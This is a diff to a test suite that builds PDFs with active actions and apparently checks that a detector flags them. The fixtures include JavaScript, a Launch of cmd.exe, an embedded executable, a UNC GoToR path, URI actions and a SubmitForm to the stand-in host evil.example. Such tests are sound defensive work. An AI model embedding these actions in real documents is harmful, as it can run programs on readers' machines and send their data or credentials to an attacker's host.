@@ -140,6 +140,14 @@ describe('a PDF that does more than be read [P40]', () => {
     ['a script by the short name', openAction({ S: 'X', JS: PDFString.of('app.alert(1)') })],
     ['a program', openAction({ S: 'Launch', F: PDFString.of('cmd.exe') })],
     ['a file inside', (document) => document.attach(Buffer.from('MZ'), 'evil.exe')],
+    ['another document it opens [pages M]', openAction({ S: 'GoToR', F: PDFString.of('\\\\evil.example\\x.pdf') })],
+    ['an address it opens [pages M]', openAction({ S: 'URI', URI: PDFString.of('https://evil.example') })],
+    ['an address it opens after a harmless step', openAction({ S: 'GoTo', D: [], Next: { S: 'URI', URI: PDFString.of('https://evil.example') } })],
+    [
+      'an address a page opens',
+      (document) =>
+        document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: { S: 'URI', URI: PDFString.of('https://evil.example') } } as never)),
+    ],
     ['a form that sends itself', openAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })],
   ];
   for (const [what, dress] of dresses) {
